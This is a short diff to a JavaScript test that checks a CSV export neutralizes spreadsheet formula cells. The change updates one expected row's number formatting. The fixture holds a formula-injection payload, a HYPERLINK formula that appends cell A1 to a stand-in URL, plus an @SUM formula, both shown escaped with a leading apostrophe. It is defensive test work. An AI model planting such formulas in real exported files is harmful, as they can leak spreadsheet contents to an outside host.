@@ -35,7 +35,8 @@ test("formula cells are neutralized in the clean CSV, numbers keep their sign, t
   assert.deepEqual(csv, [
     "CODGEO,NOM_ASSOCIATION,SOLDE",
     "59522,\"'=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\",-3.5",
-    "59522,'@SUM(1+1),12",
+    // The column's precision, one decimal (its -3,5), for each of its values.
+    "59522,'@SUM(1+1),12.0",
   ]);
   await carnet.screenshot("97-formules-neutralisees", ".selection");
   assertClean(carnet);
